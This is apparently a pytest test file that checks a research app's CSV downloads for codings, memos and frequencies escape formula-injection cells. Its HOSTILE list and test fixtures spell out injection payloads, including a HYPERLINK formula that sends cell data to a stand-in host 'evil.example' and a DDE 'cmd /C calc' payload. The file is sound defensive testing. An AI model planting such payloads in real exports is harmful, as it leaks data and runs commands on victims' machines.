"""Every CSV download neutralises cells a spreadsheet would run as a formula (CSV injection)."""
from __future__ import annotations

import csv
import io

import pytest
from conftest import csrf_token

from storybank import tx
from storybank.coding import codebook
from storybank.coding.codings import apply_coding
from storybank.coding.memos import add_memo
from storybank.csv_safe import csv_text, safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_start_is_neutralised(value):
    assert safe_cell(value) == "'" + value
    assert list(csv.reader(io.StringIO(csv_text([[value]]))))[0][0] == "'" + value


def test_ordinary_text_and_numbers_are_written_as_they_are():
    assert safe_cell("Hope, and a cup of tea") == "Hope, and a cup of tea"
    assert safe_cell(-0.25) == -0.25 and safe_cell(3) == 3
    assert csv_text([["a-b", 2, "1 = 1"]]).strip() == "a-b,2,1 = 1"


def _cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_codings_memos_and_analysis_downloads_carry_no_live_formula(app, login_as, make_story):
    client, researcher = login_as("researcher")
    codebook.install_starter(researcher)
    story = make_story(title="=cmd|' /C calc'!A0", body="=HYPERLINK(\"http://evil.example\") was what I typed.")
    code = codebook.create_code(researcher, "@risky code")
    coding = apply_coding(researcher, story.id, code.id, 0, 20)
    add_memo(researcher, "+memo that looks like a formula", coding_id=coding.id)
    tx.commit()
    codings = client.post("/exchange/export/codings.csv", data={"csrf_token": csrf_token(client, "/exchange/")})
    memos = client.get("/memos.csv")
    frequencies = client.get("/analysis/frequencies.csv")
    for response in (codings, memos, frequencies):
        cells = _cells(response)
        assert _formulas(cells) == [], _formulas(cells)
    assert any(cell.startswith("'=HYPERLINK(") for cell in _cells(codings))  # the excerpt, kept but inert
    assert "'+memo that looks like a formula" in _cells(memos)
    assert "'@risky code" in _cells(frequencies)
